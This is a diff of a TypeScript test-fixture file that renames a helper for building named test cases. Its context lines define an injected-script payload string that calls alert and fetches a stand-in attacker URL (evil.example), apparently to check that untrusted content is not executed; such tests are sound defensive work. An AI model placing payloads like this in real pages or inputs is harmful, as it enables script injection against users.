@@ -22,7 +22,7 @@ export type Case = Readonly<{
 export const RUN = "globalThis.wasRun = true; alert('run'); fetch('https://evil.example/run');";
 export const ELSEWHERE = 'https://evil.example/picture.png';
 
-export const named = (
+export const namedCase = (
   kind: string,
   cases: readonly Omit<Case, 'name'>[] | Readonly<Record<string, Omit<Case, 'name'>>>,
 ): readonly Case[] => Object.entries(cases).map(([name, one]) => ({ ...one, name: `${name}.${kind}` }));
